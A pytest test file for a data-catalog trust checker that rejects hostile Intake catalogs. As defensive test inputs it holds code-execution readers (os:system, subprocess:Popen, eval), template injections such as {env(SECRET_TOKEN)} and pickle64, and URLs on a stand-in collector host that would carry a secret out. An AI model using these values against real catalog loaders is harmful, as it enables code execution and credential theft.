"""Hostile Intake catalogs are rejected before Intake imports or expands anything."""

from __future__ import annotations

import base64
import pickle
import sys
import uuid
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
import yaml
from intake.readers.entry import Catalog

from bioshare.catalog.catalogs import catalog_path, open_catalog
from bioshare.catalog.trust import UntrustedCatalogError, check_catalog
from bioshare.errors import BioshareError

SECRET = "s3cr3t-t0ken-value-never-shown"
OME_ZARR = "bioshare.catalog.readers:OMEZarr"
READER = "bioshare.catalog.readers:OMEZarrReader"


@dataclass
class Canary:
    """A module on sys.path that leaves a marker file when it is imported."""

    name: str
    marker: Path

    @property
    def imported(self) -> bool:
        return self.name in sys.modules or self.marker.exists()


@pytest.fixture
def canary(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Canary]:
    name = f"bioshare_canary_{uuid.uuid4().hex[:12]}"
    folder = tmp_path / "canary"
    folder.mkdir()
    marker = tmp_path / "imported.marker"
    (folder / f"{name}.py").write_text(
        "from pathlib import Path\n"
        f"Path({str(marker)!r}).write_text('imported')\n"
        "class Thing:\n"
        "    def __init__(self, *args, **kwargs):\n"
        "        pass\n"
    )
    monkeypatch.syspath_prepend(str(folder))
    yield Canary(name, marker)
    sys.modules.pop(name, None)


@pytest.fixture
def secret(monkeypatch: pytest.MonkeyPatch) -> str:
    monkeypatch.setenv("SECRET_TOKEN", SECRET)
    return SECRET


def catalog(
    *,
    url: Any = "https://example.org/image.ome.zarr",
    reader: str = READER,
    datatype: str = OME_ZARR,
    entry_extra: dict[str, Any] | None = None,
    data_extra: dict[str, Any] | None = None,
    **top: Any,
) -> dict[str, Any]:
    """A minimal v2 catalog with one data description and one entry, parts replaceable."""
    raw: dict[str, Any] = {
        "version": 2,
        "metadata": {"description": "a catalog from somewhere"},
        "user_parameters": {},
        "aliases": {"image": "image"},
        "data": {
            "zarr": {
                "datatype": datatype,
                "kwargs": {"url": url, "storage_options": None, "root": ""},
                "metadata": {},
                "user_parameters": {},
                **(data_extra or {}),
            }
        },
        "entries": {
            "image": {
                "reader": reader,
                "kwargs": {"args": ["{data(zarr)}"]},
                "output_instance": None,
                "metadata": {},
                "user_parameters": {},
                **(entry_extra or {}),
            }
        },
    }
    raw.update(top)
    return raw


def write(tmp_path: Path, raw: dict[str, Any]) -> Path:
    path = tmp_path / f"catalog-{uuid.uuid4().hex[:8]}.yaml"
    path.write_text(yaml.safe_dump(raw))
    return path


def rejected(tmp_path: Path, raw: dict[str, Any]) -> str:
    """Open the catalog from a file, expect rejection, return the message."""
    with pytest.raises(UntrustedCatalogError) as info:
        open_catalog(write(tmp_path, raw))
    return str(info.value)


# -- readers and data types -------------------------------------------------------------------


@pytest.mark.parametrize("reader", ["os:system", "subprocess:Popen", "builtins:eval"])
def test_dangerous_reader_is_rejected(tmp_path: Path, reader: str) -> None:
    message = rejected(tmp_path, catalog(reader=reader))
    assert "'image'" in message
    assert reader in message
    assert READER in message  # says what is allowed
    assert "trusted=True" in message


def test_unknown_reader_class_is_never_imported(tmp_path: Path, canary: Canary) -> None:
    message = rejected(tmp_path, catalog(reader=f"{canary.name}:Thing"))
    assert f"{canary.name}:Thing" in message
    assert not canary.imported


def test_unknown_datatype_class_is_never_imported(tmp_path: Path, canary: Canary) -> None:
    message = rejected(tmp_path, catalog(datatype=f"{canary.name}:Thing"))
    assert "data 'zarr'" in message
    assert f"{canary.name}:Thing" in message
    assert "allowed datatypes" in message
    assert not canary.imported


def test_user_parameter_class_is_never_imported(tmp_path: Path, canary: Canary) -> None:
    params = {"p": {"cls": f"{canary.name}:Thing", "default": 1}}
    message = rejected(tmp_path, catalog(user_parameters=params))
    assert "'p'" in message
    assert f"{canary.name}:Thing" in message
    assert not canary.imported


def test_intake_alone_imports_a_parameter_class_on_load(canary: Canary) -> None:
    """Why the raw dict is checked: Intake imports parameter classes in from_dict."""
    params = {"p": {"cls": f"{canary.name}:Thing", "default": 1}}
    Catalog.from_dict(catalog(user_parameters=params))
    assert canary.imported


@pytest.mark.parametrize("where", ["entry", "data"])
def test_cls_key_in_a_description_is_rejected(tmp_path: Path, canary: Canary, where: str) -> None:
    extra = {"cls": f"{canary.name}:Thing"}
    raw = catalog(entry_extra=extra) if where == "entry" else catalog(data_extra=extra)
    message = rejected(tmp_path, raw)
    assert "'cls'" in message
    assert not canary.imported


def test_entry_parameter_class_is_checked(tmp_path: Path, canary: Canary) -> None:
    extra = {"user_parameters": {"q": {"cls": f"{canary.name}:Thing", "default": 0}}}
    message = rejected(tmp_path, catalog(entry_extra=extra))
    assert "entry 'image' user_parameters 'q'" in message
    assert not canary.imported


def test_output_instance_must_match_the_reader(tmp_path: Path) -> None:
    message = rejected(tmp_path, catalog(entry_extra={"output_instance": "os:system"}))
    assert "os:system" in message
    assert "xarray:DataArray" in message


def test_parameter_dtype_must_be_a_plain_builtin_type(tmp_path: Path) -> None:
    params = {
        "p": {
            "cls": "intake.readers.user_parameters:SimpleUserParameter",
            "dtype": "eval",
            "default": "1",
        }
    }
    assert "'eval'" in rejected(tmp_path, catalog(user_parameters=params))


# -- templates ----------------------------------------------------------------------------------


def test_env_template_is_rejected_without_revealing_the_value(tmp_path: Path, secret: str) -> None:
    url = "https://collector.example.org/{env(SECRET_TOKEN)}/image.ome.zarr"
    message = rejected(tmp_path, catalog(url=url))
    assert "data.zarr.kwargs.url" in message
    assert "{env(...)}" in message
    assert secret not in message


def test_intake_alone_expands_env_into_a_url(secret: str) -> None:
    """Why: Intake copies the environment variable into the URL it will request."""
    raw = catalog(url="https://collector.example.org/{env(SECRET_TOKEN)}/image.ome.zarr")
    reader = Catalog.from_dict(raw)["image"]
    assert secret in reader.data.url


PICKLED = base64.b64encode(pickle.dumps({"a": 1})).decode()
TEMPLATES = [
    "{env(SECRET_TOKEN)}",
    "{func(os:system)}",
    "{import(subprocess:Popen)}",
    f"{{pickle64({PICKLED})}}",
    "prefix-{ env (SECRET_TOKEN)}",  # spacing does not help
    "{ENV(SECRET_TOKEN)}",  # nor case
]


@pytest.mark.parametrize("template", TEMPLATES)
@pytest.mark.parametrize(
    "place",
    ["url", "nested-kwargs", "list-in-kwargs", "metadata", "alias", "key", "parameter-default"],
)
def test_dangerous_templates_are_rejected_anywhere(
    tmp_path: Path, secret: str, template: str, place: str
) -> None:
    raw = catalog()
    data = raw["data"]["zarr"]
    if place == "url":
        data["kwargs"]["url"] = f"https://example.org/{template}.ome.zarr"
    elif place == "nested-kwargs":
        data["kwargs"]["storage_options"] = {"client_kwargs": {"headers": {"X-Token": template}}}
    elif place == "list-in-kwargs":
        raw["entries"]["image"]["kwargs"]["chunks"] = [1, {"deep": [template]}]
    elif place == "metadata":
        raw["entries"]["image"]["metadata"] = {"notes": [{"text": f"see {template}"}]}
    elif place == "alias":
        raw["aliases"]["other"] = template
    elif place == "key":
        raw["metadata"][template] = "value"
    else:
        raw["user_parameters"]["token"] = {
            "cls": "intake.readers.user_parameters:BaseUserParameter",
            "default": template,
        }
    message = rejected(tmp_path, raw)
    assert "template" in message
    assert secret not in message


@pytest.mark.parametrize("default", ["env(SECRET_TOKEN)", "func(os:system)", "import(os)"])
def test_parameter_default_expanded_by_intake_is_rejected(
    tmp_path: Path, secret: str, default: str
) -> None:
    params = {
        "token": {"cls": "intake.readers.user_parameters:BaseUserParameter", "default": default}
    }
    raw = catalog(
        url="https://collector.example.org/{token}/image.ome.zarr", user_parameters=params
    )
    message = rejected(tmp_path, raw)
    assert "'token'" in message
    assert secret not in message


def test_intake_alone_expands_a_bare_env_default(secret: str) -> None:
    params = {
        "token": {
            "cls": "intake.readers.user_parameters:BaseUserParameter",
            "default": "env(SECRET_TOKEN)",
        }
    }
    raw = catalog(
        url="https://collector.example.org/{token}/image.ome.zarr", user_parameters=params
    )
    assert secret in Catalog.from_dict(raw)["image"].data.url


@pytest.mark.parametrize(
    "url",
    [
        "https://example.org/{CATALOG_DIR.__class__.__mro__}/x.ome.zarr",
        "https://example.org/{base[0]}/x.ome.zarr",
        "https://example.org/{STORAGE_OPTIONS}/x.ome.zarr",
        "https://example.org/{base:{STORAGE_OPTIONS}}/x.ome.zarr",
    ],
)
def test_template_fields_must_be_plain_names(tmp_path: Path, url: str) -> None:
    message = rejected(tmp_path, catalog(url=url))
    assert "data 'zarr' kwargs" in message


def test_plain_parameters_and_data_references_are_allowed(tmp_path: Path) -> None:
    params = {
        "base": {
            "cls": "intake.readers.user_parameters:SimpleUserParameter",
            "dtype": "str",
            "default": "https://example.org",
        }
    }
    raw = catalog(url="{base}/{CATALOG_DIR}/x.ome.zarr", user_parameters=params)
    cat = open_catalog(write(tmp_path, raw))
    assert cat["image"].data.url.startswith("https://example.org/file://")


# -- trusted catalogs -------------------------------------------------------------------------


def test_trusted_lets_an_unlisted_reader_through(tmp_path: Path) -> None:
    text = tmp_path / "notes.txt"
    text.write_text("hello from a trusted catalog")
    raw = catalog(
        url=str(text),
        reader="intake.readers.readers:FileTextReader",
        datatype="intake.readers.datatypes:Text",
    )
    raw["data"]["zarr"]["kwargs"] = {"url": str(text), "storage_options": None}
    path = write(tmp_path, raw)
    with pytest.raises(UntrustedCatalogError, match="FileTextReader"):
        open_catalog(path)
    cat = open_catalog(path, trusted=True)
    assert cat["image"].read() == "hello from a trusted catalog"


def test_allow_listed_intake_zarr_readers_pass(tmp_path: Path) -> None:
    raw = catalog(
        reader="intake.readers.readers:DaskZarr", datatype="intake.readers.datatypes:Zarr"
    )
    raw["entries"]["image"]["output_instance"] = "dask.array:Array"
    cat = open_catalog(write(tmp_path, raw))
    assert type(cat["image"]).__name__ == "DaskZarr"


# -- the checker itself -----------------------------------------------------------------------


def test_error_is_a_bioshare_error() -> None:
    assert issubclass(UntrustedCatalogError, BioshareError)
    assert issubclass(UntrustedCatalogError, ValueError)


def test_non_mapping_sections_are_rejected() -> None:
    with pytest.raises(UntrustedCatalogError, match="'entries' must be a mapping"):
        check_catalog({"version": 2, "entries": ["os:system"]})
    with pytest.raises(UntrustedCatalogError, match="found list"):
        check_catalog([1, 2])  # type: ignore[arg-type]


@pytest.mark.parametrize("name", ["idr", "bia", "course", "demo"])
def test_curated_catalogs_pass_the_checks(name: str) -> None:
    check_catalog(yaml.safe_load(catalog_path(name).read_text()), name)
